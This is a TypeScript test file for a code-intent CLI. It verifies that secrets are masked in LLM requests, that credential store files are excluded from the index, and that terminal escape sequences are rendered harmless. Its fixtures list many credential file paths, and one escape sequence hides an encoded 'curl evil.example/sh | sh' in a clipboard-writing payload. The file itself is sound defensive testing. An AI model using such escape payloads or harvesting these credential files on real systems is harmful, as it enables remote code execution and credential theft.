// Issue 11, "nothing leaked": what must never leave the machine (secrets sent to an LLM, credential
// files in the index) or reach the terminal (escape sequences from files, file names or a model).
// Each case runs the real `codeintent` command on real files with a real LanceDB index, against the
// real OpenAI-protocol server on 127.0.0.1 (test/helpers/chat-suite.server.ts), which records what was sent.

import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { SECRET_MASK } from '../../src/core/llm/mask-secrets.js';
import { firstUserMessage, loggingEdit, type ChatHandler } from '../helpers/chat-server.js';
import type { Run } from '../helpers/cli.js';
import { editSuite } from '../helpers/edit-suite.js';

const suite = editSuite('codeintent-leaks-');
const { project } = suite;
const edit = (root: string, args: readonly string[]): Promise<Run> => suite.codeintent(['edit', ...args, '--root', root, '--embedding-model', suite.model]);
const search = (root: string, query: string, args: readonly string[] = []): Promise<Run> => suite.codeintent(['search', query, '--root', root, '--model', suite.model, ...args]);
/** Everything the server received since `from`, as sent. */
const sentSince = (from: number): string => suite.server.requests.slice(from).map((r) => r.text).join('\n');
const explaining = (explanation: string): ChatHandler => () => ({ content: JSON.stringify({ edits: [], explanation }) });

test('case 1: a multi-line PEM private key in a template string is masked in what edit sends, and the line numbers around it hold', async () => {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024, privateKeyEncoding: { type: 'pkcs8', format: 'pem' }, publicKeyEncoding: { type: 'spki', format: 'pem' } });
  const pem = privateKey.trimEnd();
  const body = pem.split('\n').slice(1, -1);
  const source = [
    "import { createSign } from 'node:crypto';",
    '',
    'export function signWebhookPayload(payload: string): string {',
    `  const key = \`${pem}\`;`,
    "  const signer = createSign('RSA-SHA256');",
    '  signer.update(payload);',
    "  return signer.sign(key, 'base64');",
    '}',
    '',
  ].join('\n');
  const signerLine = source.split('\n').indexOf("  const signer = createSign('RSA-SHA256');") + 1;
  const { root, from } = await project({ 'src/webhooks/sign.ts': source }, (request) => ({ content: JSON.stringify(loggingEdit(request)) }));

  const run = await edit(root, ['add-logging', '--query', 'sign webhook payload', '--top', '1', '--apply']);
  assert.equal(run.code, 0, run.stderr);
  const sent = sentSince(from);
  assert.ok(sent.length > 0, 'the edit was sent');
  for (const line of body) assert.ok(!sent.includes(line), `a line of the private key was sent: ${line}`);
  assert.ok(sent.includes(`-----BEGIN PRIVATE KEY-----${SECRET_MASK}`), 'the armour stays, so the model sees a key is there');
  // Masking did not shift the numbers the model edits by: the line after the key keeps its own.
  assert.match(firstUserMessage(suite.server.requests[from]!), new RegExp(`^ *${signerLine}\\| {3}const signer = createSign`, 'm'), 'the code after the key keeps its line number');
  const written = await readFile(path.join(root, 'src/webhooks/sign.ts'), 'utf8');
  assert.ok(written.includes(pem), 'the key in the file is intact');
  assert.match(written, /^export function signWebhookPayload\(payload: string\): string \{\n {2}console\.info\('signWebhookPayload: start'\);\n {2}const key = `-----BEGIN PRIVATE KEY-----$/m);
});

// Credential stores of well-known tools, by the path they have in a workspace (or a home folder
// opened as one). Each holds the word "harborlight", so one search would find them all if indexed.
// The values are assembled at run time so that secret scanners do not flag this file.
const TOKEN = 'hb' + 'Xq7Lr2Vt9Wk4Zp6Ny3Jc8Fd1';
const CREDENTIAL_FILES: Record<string, string> = {
  '.gem/credentials': `---\n# harborlight\n:rubygems_api_key: rubygems_${TOKEN}\n`,
  '.s3cfg': `[default]\n# harborlight\naccess_key = AKIA${'HARBORLIGHT12345'}\nsecret_key = ${TOKEN}\n`,
  'config/database.yml': `production:\n  adapter: postgresql\n  username: harborlight\n  password: ${TOKEN}\n`,
  '.config/gcloud/application_default_credentials.json': JSON.stringify({ client_id: 'harborlight.apps.googleusercontent.com', client_secret: TOKEN, refresh_token: `1//${TOKEN}`, type: 'authorized_user' }),
  '.cargo/credentials.toml': `# harborlight\n[registry]\ntoken = "cio${TOKEN}"\n`,
  '.cargo/credentials': `# harborlight\n[registry]\ntoken = "cio${TOKEN}"\n`,
  'token.json': JSON.stringify({ token: `ya29.${TOKEN}`, refresh_token: TOKEN, scopes: ['harborlight'] }),
  '.npmrc': `# harborlight\n//registry.npmjs.org/:_authToken=npm_${TOKEN}\n`,
  '.pypirc': `[pypi]\n# harborlight\nusername = __token__\npassword = pypi-${TOKEN}\n`,
  '.netrc': `machine harborlight.example.com login deploy password ${TOKEN}\n`,
  '.git-credentials': `https://deploy:${TOKEN}@harborlight.example.com\n`,
  '.docker/config.json': JSON.stringify({ auths: { 'harborlight.example.com': { auth: Buffer.from(`deploy:${TOKEN}`).toString('base64') } } }),
  '.kube/config': `apiVersion: v1\nkind: Config\nclusters:\n- name: harborlight\nusers:\n- name: admin\n  user:\n    token: ${TOKEN}\n`,
  'deploy/kubeconfig': `apiVersion: v1\nkind: Config\nclusters:\n- name: harborlight\nusers:\n- name: admin\n  user:\n    token: ${TOKEN}\n`,
  'deploy/staging.kubeconfig': `apiVersion: v1\nkind: Config\nclusters:\n- name: harborlight\nusers:\n- name: admin\n  user:\n    token: ${TOKEN}\n`,
  '.config/gh/hosts.yml': `github.com:\n  user: harborlight\n  oauth_token: gho_${TOKEN}\n`,
  '.boto': `[Credentials]\n# harborlight\ngs_oauth2_refresh_token = ${TOKEN}\n`,
  '.vault-token': `hvs.${TOKEN} harborlight\n`,
  '.terraform.d/credentials.tfrc.json': JSON.stringify({ credentials: { 'app.terraform.io': { token: `${TOKEN}.atlasv1.harborlight` } } }),
  '.composer/auth.json': JSON.stringify({ 'http-basic': { 'repo.harborlight.example.com': { username: 'deploy', password: TOKEN } } }),
  '.m2/settings.xml': `<settings><servers><server><id>harborlight</id><username>deploy</username><password>${TOKEN}</password></server></servers></settings>\n`,
  '.bash_history': `mysql -u root -p${TOKEN} harborlight\n`,
  'jenkins/credentials.xml': `<com.cloudbees.plugins.credentials.SystemCredentialsProvider><password>${TOKEN}</password><id>harborlight</id></com.cloudbees.plugins.credentials.SystemCredentialsProvider>\n`,
  'sftp-config.json': JSON.stringify({ host: 'harborlight.example.com', user: 'deploy', password: TOKEN }),
};

test('case 2: credential files are never indexed, searched or sent; unquoted key = value and key: value secrets are masked in what edit sends', async () => {
  const code = { 'src/harbor.ts': 'export function harborlightBeacon(port: number) {\n  return `harborlight on ${port}`;\n}\n' };
  const creds = await project({ ...CREDENTIAL_FILES, ...code }, explaining('Describes the harborlight beacon.'));
  const run = await search(creds.root, 'harborlight', ['--mode', 'lexical', '--top', '50', '--json']);
  assert.equal(run.code, 0, run.stderr);
  const found = new Set((JSON.parse(run.stdout) as { path: string }[]).map((hit) => hit.path));
  assert.ok(found.has('src/harbor.ts'), `the search works: ${[...found].join(', ')}`);
  assert.deepEqual(Object.keys(CREDENTIAL_FILES).filter((file) => found.has(file)), [], 'credential files are not in the search results');
  const edited = await edit(creds.root, ['explain', '--query', 'harborlight', '--top', '5']);
  assert.equal(edited.code, 0, edited.stderr);
  assert.ok(!sentSince(creds.from).includes(TOKEN), 'no credential is sent');

  // Config files that are not credential stores are indexed, and their unquoted secrets masked.
  const PASSWORD = 'Tr0ub4dor' + '-3&x';
  const API_KEY = '9f2c4e7a' + '1b3d5f60c8';
  const SECRET_KEY = 'wJalrXUtnFEMI/K7MDENG/' + 'bPxRfiCYzKEY';
  const configs = await project(
    {
      'config/notifier.yml': ['smtp:', '  host: mail.internal', '  username: notifier', `  password: ${PASSWORD}`, 'webhooks:', `  api_key: ${API_KEY}`, '  retries: 3', ''].join('\n'),
      'deploy/uploader.ini': ['[uploader]', 'bucket = releases', `secret_key = ${SECRET_KEY}`, `db.password=${PASSWORD}`, 'retries = 3', ''].join('\n'),
    },
    explaining('Settings of the notifier and the uploader.'),
  );
  const explained = await edit(configs.root, ['explain', '--query', 'notifier uploader settings retries', '--top', '2']);
  assert.equal(explained.code, 0, explained.stderr);
  const sent = sentSince(configs.from);
  assert.equal(suite.server.requests.length - configs.from, 2, 'both files were sent');
  for (const secret of [PASSWORD, API_KEY, SECRET_KEY]) assert.ok(!sent.includes(secret), `sent unmasked: ${secret}`);
  for (const line of [`password: ${SECRET_MASK}`, `api_key: ${SECRET_MASK}`, `secret_key = ${SECRET_MASK}`, `db.password=${SECRET_MASK}`, 'bucket = releases', 'retries: 3']) {
    assert.ok(sent.includes(line), `expected in what was sent: ${line}`);
  }
});

/** What a terminal obeys: C0 controls but tab and newline, DEL, and the 8-bit C1 controls (U+0080–U+009F). */
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const OSC_TITLE = '\x1b]0;owned\x07';
const OSC_CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07';
const CSI_8BIT = '\u009b2J';

test('case 3: escape sequences in code, file names and the model’s answer are shown, not obeyed, by search and edit; --json stays exact', async () => {
  const evilName = `src/${OSC_TITLE}status.ts`;
  const files = {
    [evilName]: 'export function renderStatusLine(state: string) {\n  return `status: ${state}`;\n}\n',
    'src/banner.ts': `export function printWelcomeBanner() {\n  const banner = "${OSC_TITLE}${OSC_CLIPBOARD}${CSI_8BIT}welcome";\n  return banner;\n}\n`,
  };
  const explanation = `Renders the status line.${OSC_CLIPBOARD}${CSI_8BIT}`;
  const { root } = await project(files, explaining(explanation));

  const shown = await search(root, 'print welcome banner');
  assert.equal(shown.code, 0, shown.stderr);
  assert.doesNotMatch(shown.stdout, CONTROL);
  assert.ok(shown.stdout.includes('\\x1b]0;owned\\x07\\x1b]52;c;'), `the escapes are shown as text:\n${shown.stdout}`);
  assert.ok(shown.stdout.includes('\\x9b2Jwelcome'), shown.stdout);
  assert.ok(shown.stdout.includes('src/\\x1b]0;owned\\x07status.ts'), 'a file name is shown the same way');

  const json = await search(root, 'render status line', ['--json']);
  assert.equal(json.code, 0, json.stderr);
  assert.doesNotMatch(json.stdout, CONTROL);
  assert.ok((JSON.parse(json.stdout) as { path: string }[]).some((hit) => hit.path === evilName), 'the JSON path is the exact name');

  const explained = await edit(root, ['explain', '--query', 'render status line', '--top', '1']);
  assert.equal(explained.code, 0, explained.stderr);
  assert.doesNotMatch(explained.stdout, CONTROL);
  assert.ok(explained.stdout.includes(`# src/\\x1b]0;owned\\x07status.ts: Renders the status line.\\x1b]52;c;`), explained.stdout);
  const explainedJson = await edit(root, ['explain', '--query', 'render status line', '--top', '1', '--json']);
  assert.equal(explainedJson.code, 0, explainedJson.stderr);
  assert.doesNotMatch(explainedJson.stdout, CONTROL);
  assert.equal((JSON.parse(explainedJson.stdout) as { proposals: { explanation: string }[] }).proposals[0]?.explanation, explanation);

  suite.server.setHandler((request) => ({ content: JSON.stringify(loggingEdit(request)) }));
  const applied = await edit(root, ['add-logging', '--query', 'render status line', '--top', '1', '--apply']);
  assert.equal(applied.code, 0, applied.stderr);
  assert.doesNotMatch(applied.stderr, CONTROL);
  assert.ok(applied.stderr.includes('applied: src/\\x1b]0;owned\\x07status.ts'), applied.stderr);
  assert.match(await readFile(path.join(root, evilName), 'utf8'), /console\.info\('renderStatusLine: start'\)/);
});
